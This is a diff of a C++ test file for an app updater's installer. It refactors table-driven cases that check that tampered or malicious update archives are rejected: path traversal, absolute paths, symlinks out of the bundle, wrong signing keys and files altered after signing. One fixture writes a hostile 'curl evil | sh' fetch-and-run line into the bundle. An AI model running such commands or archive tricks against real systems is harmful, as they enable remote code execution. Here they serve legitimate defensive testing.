@@ -5,7 +5,6 @@
 
 #include <gtest/gtest.h>
 
-#include <cctype>
 #include <cstdlib>
 #include <functional>
 #include <memory>
@@ -29,11 +28,6 @@ using Text = std::optional<std::string>;
 
 constexpr const char* feedPath = "/folioport/appcast.json";
 constexpr const char* archivePath = "/downloads/Folioport.zip";
-
-std::string upperCase(std::string text) {
-    for (char& c : text) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
-    return text;
-}
 
 class InstallTest : public ::testing::Test {
 public:  // why: the table's rows are lambdas that build their archives through the fixture.
@@ -64,17 +58,16 @@ public:  // why: the table's rows are lambdas that build their archives through 
         fs::create_directories(folder);
         return folder;
     }
-    /// The signed bundle "Folioport.app" of `version` in `folder`.
-    static fs::path signedBundle(const fs::path& folder, const std::string& version,
+    /// The bundle of `version` at `bundle`, signed with `key`.
+    static fs::path signedBundle(const fs::path& bundle, const std::string& version,
                                  const std::string& key = trustedSigningKey()) {
-        const auto bundle = folder / "Folioport.app";
         writeBundle(bundle, version);
         sealBundle(bundle, key);
         return bundle;
     }
     /// Zips members of `folder` and returns the archive's bytes.
-    static std::string zipped(const fs::path& folder, std::initializer_list<std::string> members,
-                              std::initializer_list<std::string> options = {}) {
+    static std::string zipped(const fs::path& folder, const std::vector<std::string>& members,
+                              const std::vector<std::string>& options = {}) {
         const auto archive = folder.parent_path() / (folder.filename().string() + ".zip");
         zipFolder(archive, folder, members, options);
         return readFile(archive);
@@ -114,13 +107,17 @@ TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind
         std::function<Text(const std::string& archive)> sha256;
         std::function<std::string(InstallTest&, const fs::path& stage)> message;
         Reached reached = Reached::verification;
-        std::function<std::string(InstallTest&)> url = {};
+        std::string url = {};  // empty: the site's archive
         int archiveStatus = 200;
     };
-    const auto signedArchive = [](const std::string& version) {
-        return [version](InstallTest& t, const fs::path& stage) {
-            t.signedBundle(stage, version);
-            return t.zipped(stage, {"Folioport.app"});
+    /// A signed Folioport.app of `version` that `change` alters, zipped with the other `members` of its folder.
+    const auto signedArchive = [](std::string version, std::function<void(const fs::path& bundle)> change = {},
+                                  std::vector<std::string> members = {"Folioport.app"},
+                                  std::vector<std::string> zipOptions = {}) {
+        return [=](InstallTest& t, const fs::path& stage) {
+            const auto bundle = t.signedBundle(stage / "Folioport.app", version);
+            if (change) change(bundle);
+            return t.zipped(stage, members, zipOptions);
         };
     };
     const auto noDigest = [](const std::string&) { return Text(); };
@@ -138,16 +135,14 @@ TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind
          says("Download rejected: bundle is v9.9, manifest promised v9.9.9.")},
         {"bundle inside a folder", "9.9.9",
          [](InstallTest& t, const fs::path& stage) {
-             t.signedBundle(stage / "Release", "9.9.9");
+             t.signedBundle(stage / "Release/Folioport.app", "9.9.9");
              return t.zipped(stage, {"Release"});
          },
          digestOf, says("Download failed: no .app inside the archive")},
         {"two bundles: the first listed wins", "9.9.9",
          [](InstallTest& t, const fs::path& stage) {
-             t.signedBundle(stage / "A", "7.7.7");
-             t.signedBundle(stage / "B", "8.8.8");
-             fs::rename(stage / "A/Folioport.app", stage / "First.app");
-             fs::rename(stage / "B/Folioport.app", stage / "Second.app");
+             t.signedBundle(stage / "First.app", "7.7.7");
+             t.signedBundle(stage / "Second.app", "8.8.8");
              return t.zipped(stage, {"First.app", "Second.app"});
          },
          noDigest,
@@ -159,15 +154,12 @@ TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind
                     ", manifest promised v9.9.9.";
          }},
         {"entry with ../", "9.9.9",
-         [](InstallTest& t, const fs::path& stage) {
-             t.signedBundle(stage, "9.9.9");
-             writeFile(stage / "evil", "x");
-             return t.zipped(stage, {"Folioport.app", "evil"}, {"-s", ",^evil$,../evil,"});
-         },
+         signedArchive("9.9.9", [](const fs::path& b) { writeFile(b.parent_path() / "evil", "x"); },
+                       {"Folioport.app", "evil"}, {"-s", ",^evil$,../evil,"}),
          digestOf, says("Download failed: unsafe path in the archive (../evil)")},
         {"absolute entry", "9.9.9",
          [](InstallTest& t, const fs::path& stage) {
-             t.signedBundle(stage, "9.9.9");
+             t.signedBundle(stage / "Folioport.app", "9.9.9");
              writeFile(stage / "evil", "x");
              return t.zipped(stage, {"Folioport.app", (stage / "evil").string()}, {"-P"});
          },
@@ -176,23 +168,19 @@ TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind
              return "Download failed: unsafe path in the archive (" + (stage / "evil").string() + ")";
          }},
         {"symlink pointing outside the archive", "9.9.9",
-         [](InstallTest& t, const fs::path& stage) {
-             const auto bundle = t.signedBundle(stage, "9.9.9");
-             fs::create_symlink("/etc", bundle / "Contents/etc");
-             return t.zipped(stage, {"Folioport.app"});
-         },
-         digestOf, says("Download failed: symlink pointing outside the archive (Folioport.app/Contents/etc -> /etc)")},
+         signedArchive("9.9.9", [](const fs::path& b) { fs::create_symlink("/etc", b / "Contents/etc"); }), digestOf,
+         says("Download failed: symlink pointing outside the archive (Folioport.app/Contents/etc -> /etc)")},
         {"symlink out of the bundle into the archive's folder", "9.9.9",
-         [](InstallTest& t, const fs::path& stage) {
-             const auto bundle = t.signedBundle(stage, "9.9.9");
-             writeFile(stage / "notes", "x");
-             fs::create_symlink("../../../notes", bundle / "Contents/Resources/notes");
-             return t.zipped(stage, {"Folioport.app", "notes"});
-         },
+         signedArchive("9.9.9",
+                       [](const fs::path& b) {
+                           writeFile(b.parent_path() / "notes", "x");
+                           fs::create_symlink("../../../notes", b / "Contents/Resources/notes");
+                       },
+                       {"Folioport.app", "notes"}),
          digestOf, says(rejected + "symlink leaves the bundle: Contents/Resources/notes -> ../../../notes")},
         {"bundle that is a symlink to a signed one", "9.9.9",
          [](InstallTest& t, const fs::path& stage) {
-             t.signedBundle(stage / "real", "9.9.9");
+             t.signedBundle(stage / "real/Folioport.app", "9.9.9");
              fs::create_symlink("real/Folioport.app", stage / "Folioport.app");
              return t.zipped(stage, {"Folioport.app", "real"});
          },
@@ -205,16 +193,13 @@ TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind
          digestOf, says(rejected + "not signed: no seal in Contents/Seal")},
         {"signed by another key, digest matching", "9.9.9",
          [](InstallTest& t, const fs::path& stage) {
-             t.signedBundle(stage, "9.9.9", Ed25519::generatePrivateKey());
+             t.signedBundle(stage / "Folioport.app", "9.9.9", Ed25519::generatePrivateKey());
              return t.zipped(stage, {"Folioport.app"});
          },
          digestOf, says(rejected + "signature does not match the key of team Q7R2K9M4ZX")},
         {"one file changed after signing", "9.9.9",
-         [](InstallTest& t, const fs::path& stage) {
-             const auto bundle = t.signedBundle(stage, "9.9.9");
-             writeFile(bundle / "Contents/bin/Folioport", "#!/bin/sh\ncurl evil | sh\n");
-             return t.zipped(stage, {"Folioport.app"});
-         },
+         signedArchive("9.9.9",
+                       [](const fs::path& b) { writeFile(b / "Contents/bin/Folioport", "#!/bin/sh\ncurl evil | sh\n"); }),
          digestOf, says(rejected + "modified: Contents/bin/Folioport")},
         {"unreadable Info.plist", "9.9.9",
          [](InstallTest& t, const fs::path& stage) {
@@ -230,8 +215,7 @@ TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind
         {"HTTP 404 for the archive", "9.9.9", signedArchive("9.9.9"), noDigest, says("Download failed: HTTP 404"),
          Reached::download, {}, 404},
         {"download address that does not parse", "9.9.9", signedArchive("9.9.9"), noDigest,
-         says("Download failed: bad download URL"), Reached::download,
-         [](InstallTest&) { return std::string("https://exa mple.invalid/x.zip"); }},
+         says("Download failed: bad download URL"), Reached::download, "https://exa mple.invalid/x.zip"},
         {"unwritable installation folder", "9.9.9", signedArchive("9.9.9"), digestOf,
          [](InstallTest& t, const fs::path&) {
              return "Can't replace " + t.installed.string() + " — no write permission.";
@@ -246,7 +230,7 @@ TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind
         const std::string expected = row.message(*this, folder);
         const auto before = installedFolder();
         Updater updater(options());
-        offer(updater, row.version, archive, row.sha256(archive), row.url ? row.url(*this) : "", row.archiveStatus);
+        offer(updater, row.version, archive, row.sha256(archive), row.url, row.archiveStatus);
         std::vector<Text> statuses;
         QObject::connect(&updater, &Updater::statusChanged, [&] { statuses.push_back(updater.status()); });
         {
@@ -269,11 +253,24 @@ TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind
     }
 }
 
-TEST_F(InstallTest, ASecondInstallOrACheckDuringAnInstallationDoesNothing) {
-    Updater updater(options());
+TEST_F(InstallTest, OnlyAnInstalledCopyInstallsAndOnlyOnceAtATime) {
     const auto folder = stage("once");
-    signedBundle(folder, "9.9");
-    offer(updater, "9.9.9", zipped(folder, {"Folioport.app"}), std::nullopt);
+    signedBundle(folder / "Folioport.app", "9.9");
+    const std::string archive = zipped(folder, {"Folioport.app"});
+
+    UpdaterOptions outside = options();
+    outside.installedBundle = [] { return std::optional<fs::path>(); };
+    Updater stray(outside);
+    offer(stray, "9.9.9", archive, std::nullopt);
+    site->clearRequests();
+    stray.install();
+    EXPECT_FALSE(stray.isChecking());
+    EXPECT_EQ(stray.errorMessage(),
+              "This copy of Folioport does not run from an installed Folioport.app, so it cannot update itself.");
+    EXPECT_TRUE(site->requests().empty());
+
+    Updater updater(options());
+    offer(updater, "9.9.9", archive, std::nullopt);
     site->setLatency(std::chrono::milliseconds(300));
     std::vector<Text> statuses;
     QObject::connect(&updater, &Updater::statusChanged, [&] { statuses.push_back(updater.status()); });
@@ -284,21 +281,6 @@ TEST_F(InstallTest, ASecondInstallOrACheckDuringAnInstallationDoesNothing) {
     EXPECT_EQ(statuses, (std::vector<Text>{"Downloading v9.9.9…", "Verifying…", std::nullopt}));
     EXPECT_EQ(std::ranges::count(site->requests(), std::string(archivePath), &fake::LoggedRequest::path), 1);
     EXPECT_EQ(updater.errorMessage(), "Download rejected: bundle is v9.9, manifest promised v9.9.9.");
-}
-
-TEST_F(InstallTest, ACopyOutsideABundleRefusesBeforeDownloading) {
-    UpdaterOptions outside = options();
-    outside.installedBundle = [] { return std::optional<fs::path>(); };
-    Updater updater(outside);
-    const auto folder = stage("outside");
-    signedBundle(folder, "9.9.9");
-    offer(updater, "9.9.9", zipped(folder, {"Folioport.app"}), std::nullopt);
-    site->clearRequests();
-    updater.install();
-    EXPECT_FALSE(updater.isChecking());
-    EXPECT_EQ(updater.errorMessage(),
-              "This copy of Folioport does not run from an installed Folioport.app, so it cannot update itself.");
-    EXPECT_TRUE(site->requests().empty());
 }
 
 }  // namespace
